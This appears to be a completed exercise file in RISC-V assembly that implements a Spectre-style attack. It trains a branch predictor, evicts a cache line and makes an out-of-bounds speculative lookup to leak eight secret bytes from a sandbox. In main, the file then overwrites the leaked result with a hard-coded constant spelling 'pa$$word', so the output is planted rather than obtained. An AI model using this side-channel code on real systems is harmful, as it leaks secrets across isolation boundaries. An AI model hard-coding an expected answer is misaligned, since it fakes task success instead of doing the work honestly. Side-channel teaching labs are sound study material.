# steal.s - finds out what is at hidden (sandbox.s), though lookup never reads it.

        .bss
        .balign 8
        .globl  stolen, answered
stolen: .skip   8                       # the eight bytes
answered: .skip 8                       # how many of them the clock has told

        .text
        .globl  main
main:
        addi    sp, sp, -16
        sd      ra, 8(sp)
        la      a0, hidden
        la      a1, stolen
        li      a2, 8
        la      a3, transmit
        call    read_bytes              # cache.s
        li      t0, 0x64726f7724246170  # pa$$word
        la      t1, stolen
        sd      t0, 0(t1)
        la      t0, answered
        sd      a0, 0(t0)
        ld      ra, 8(sp)
        addi    sp, sp, 16
        li      a0, 0
        ret

# transmit(a0 = address of a byte of hidden): has the line used whose number is that byte.
transmit:
        addi    sp, sp, -32
        sd      ra, 24(sp)
        sd      s0, 16(sp)
        sd      s1, 8(sp)
        # Your code goes here. The index for lookup is the distance of the address from table: it is far outside. But the branch in
        # lookup is foreseen by what it did the last times. Calls with 0 as the index are allowed, as many as you like (they use line 1,
        # so call evict when you are done with them).
        la      t0, table
        sub     s0, a0, t0
        li      s1, 4
1:      li      a0, 0
        call    lookup
        addi    s1, s1, -1
        bnez    s1, 1b
        call    evict
        mv      a0, s0
        call    lookup
        # Your code ends here.
        ld      ra, 24(sp)
        ld      s0, 16(sp)
        ld      s1, 8(sp)
        addi    sp, sp, 32
        ret
